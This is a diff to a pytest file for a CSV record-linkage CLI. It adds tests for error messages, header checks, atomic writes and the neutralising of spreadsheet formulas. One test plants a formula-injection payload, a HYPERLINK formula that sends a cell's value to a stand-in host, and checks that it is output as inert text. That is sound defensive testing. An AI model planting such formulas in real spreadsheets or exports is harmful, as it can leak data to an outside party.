@@ -1,6 +1,7 @@
 """``jigsaw link`` end to end on a CSV file."""
 
 import pandas as pd
+import pytest
 
 from jigsaw.cli import main
 
@@ -44,8 +45,8 @@ def test_link_command_refuses_unreadable_input_in_one_line_naming_the_file(tmp_p
     (tmp_path / "latin1.csv").write_bytes((HEADER + "1,police,Zo\xeb,Smith,,,,\n").encode("latin-1"))
     (tmp_path / "folder.csv").mkdir()
     expected = {
-        "empty.csv": "not a readable CSV file",
-        "latin1.csv": "not UTF-8 text (invalid continuation byte at byte",
+        "empty.csv": "not a readable CSV file: it is empty",
+        "latin1.csv": "not a readable CSV file: row 2 is not UTF-8 text (invalid continuation byte at byte",
         "folder.csv": "is a folder, not a CSV file",
     }
     for name, message in expected.items():
@@ -79,3 +80,74 @@ def test_link_command_with_no_usable_rows_writes_empty_outputs(tmp_path, capsys)
         assert out.read_text(encoding="utf-8") == "record_id,child_id,confidence\n"
         assert pd.read_csv(review).empty
     assert "row 2 (record None), record_id '': blank record id: row left out" in capsys.readouterr().err
+
+
+def test_link_command_names_the_row_of_a_ragged_line(tmp_path, capsys):
+    source = tmp_path / "ragged.csv"
+    source.write_text(HEADER + "1,police,Amy,Smith,2012-06-14,F,LS6 1AN,\n2,police,Zoe,Khan,,,,,oops\n")
+    code = main(["link", str(source), "--out", str(tmp_path / "c.csv"), "--quiet"])
+    assert code == 2
+    assert f"{source}: not a readable CSV file: row 3 has 9 fields, the header has 8" in capsys.readouterr().err
+
+
+def test_outputs_make_spreadsheet_formulas_inert_and_keep_numbers(tmp_path, capsys, world):
+    """An agency's value "=HYPERLINK(...)" must reach a spreadsheet as text, not as a link to run."""
+    source = tmp_path / "records.csv"
+    frame = world.records.head(300).copy()
+    attack = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    frame.loc[0, "record_id"] = attack
+    frame.loc[1, "dob"] = "@SUM(1+1)"
+    frame.to_csv(source, index=False)
+    out, review, problems = tmp_path / "c.csv", tmp_path / "r.csv", tmp_path / "p.csv"
+    assert main(["link", str(source), "--out", str(out), "--review", str(review),
+                 "--problems", str(problems), "--quiet"]) == 0
+    clusters = pd.read_csv(out)
+    assert "'" + attack in set(clusters["record_id"])
+    assert not clusters["record_id"].str.match(r"[=+\-@]").any()
+    bad = pd.read_csv(problems)
+    assert bad.loc[bad["field"] == "dob", "value"].tolist() == ["'@SUM(1+1)"]
+    # Numbers stay numbers: weights below zero are written as -1.5, not '-1.5.
+    assert pd.api.types.is_float_dtype(clusters["confidence"])
+    pairs = pd.read_csv(review)
+    if len(pairs):
+        assert pd.api.types.is_float_dtype(pairs["match_weight"])
+
+
+def test_neutralise_formulas_leaves_numbers_and_plain_text():
+    from jigsaw.datasets.csvfile import neutralise_formulas
+
+    frame = pd.DataFrame({"name": ["=1+1", "+44 113", "-1.5", "-", "Amy", "@me", None],
+                          "weight": [-1.5, 0.0, 2.0, -3.0, 1.0, 4.0, 5.0]})
+    out = neutralise_formulas(frame)
+    assert out["name"].tolist() == ["'=1+1", "'+44 113", "-1.5", "'-", "Amy", "'@me", None]
+    assert out["weight"].tolist() == [-1.5, 0.0, 2.0, -3.0, 1.0, 4.0, 5.0]
+    assert frame["name"][0] == "=1+1"  # the caller's frame is not changed
+
+
+def test_the_csv_reader_options_and_header_checks(tmp_path):
+    from jigsaw.datasets.csvfile import read_text_csv
+
+    path = tmp_path / "areas.csv"
+    path.write_bytes("\ufeffcode, name ,children\nE1, Leeds,\n".encode())
+    plain = read_text_csv(path)
+    assert list(plain.columns) == ["code", "name", "children"]  # BOM dropped, names trimmed
+    assert plain.iloc[0].tolist() == ["E1", " Leeds", ""]
+    spaced = read_text_csv(path, skipinitialspace=True, blanks_as_missing=True)
+    assert spaced.iloc[0, 1] == "Leeds" and pd.isna(spaced.iloc[0, 2])
+    path.write_text("code,name,code\nE1,Leeds,E2\n")
+    with pytest.raises(ValueError, match=r"areas.csv: row 1: column code appears more than once"):
+        read_text_csv(path)
+    with pytest.raises(FileNotFoundError, match=r"nope.csv: no such file"):
+        read_text_csv(tmp_path / "nope.csv")
+
+
+def test_atomic_write_leaves_the_old_file_when_writing_fails(tmp_path):
+    from jigsaw.datasets.csvfile import atomic_path, write_atomic
+
+    path = tmp_path / "out.csv"
+    write_atomic(path, "old\n")
+    with pytest.raises(RuntimeError), atomic_path(path) as temporary:
+        temporary.write_text("half")
+        raise RuntimeError("disk full")
+    assert path.read_text() == "old\n"
+    assert list(tmp_path.iterdir()) == [path]
